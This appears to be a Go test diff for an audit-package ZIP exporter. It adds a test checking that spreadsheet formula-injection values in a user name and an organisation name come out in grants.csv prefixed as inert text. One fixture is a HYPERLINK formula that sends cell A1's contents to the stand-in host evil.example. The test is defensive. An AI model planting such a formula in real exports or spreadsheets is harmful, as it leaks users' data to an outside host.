@@ -65,6 +65,30 @@ func TestAuditPackageZip_003bewerkersArt3(t *testing.T) {
 	}
 }
 
+// TestAuditPackageZip_formulaInjection: a name chosen to be a formula
+// reaches grants.csv as text, not as something a spreadsheet runs.
+func TestAuditPackageZip_formulaInjection(t *testing.T) {
+	at := time.Date(2026, 5, 1, 10, 0, 0, 0, time.UTC)
+	evil := `=HYPERLINK("http://evil.example/?"&A1,"klik")`
+	p := &store.AuditPackage{GeneratedAt: at,
+		Grants: []store.ReviewGrant{{Grant: opstap.Grant{ID: "g1", UserID: "u1", Role: opstap.RoleCoach, Access: opstap.Write, GrantedAt: at, ReviewedAt: at},
+			UserName: evil, OrgName: "@SUM(1+1)", State: store.ReviewOK}}}
+	var buf bytes.Buffer
+	if err := AuditPackageZip(&buf, p); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(bytes.NewReader(storetest.Unzip(t, buf.Bytes())["grants.csv"])).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := recs[1][2]; got != "'"+evil {
+		t.Fatalf("user_name = %q", got)
+	}
+	if got := recs[1][3]; got != "'@SUM(1+1)" {
+		t.Fatalf("organisation = %q", got)
+	}
+}
+
 // TestHandoverZip_003art7_5: a hand-over survives the ZIP round trip.
 func TestHandoverZip_003art7_5(t *testing.T) {
 	h := &store.Handover{Format: store.HandoverFormat, ExportedAt: time.Date(2026, 5, 1, 10, 0, 0, 0, time.UTC),
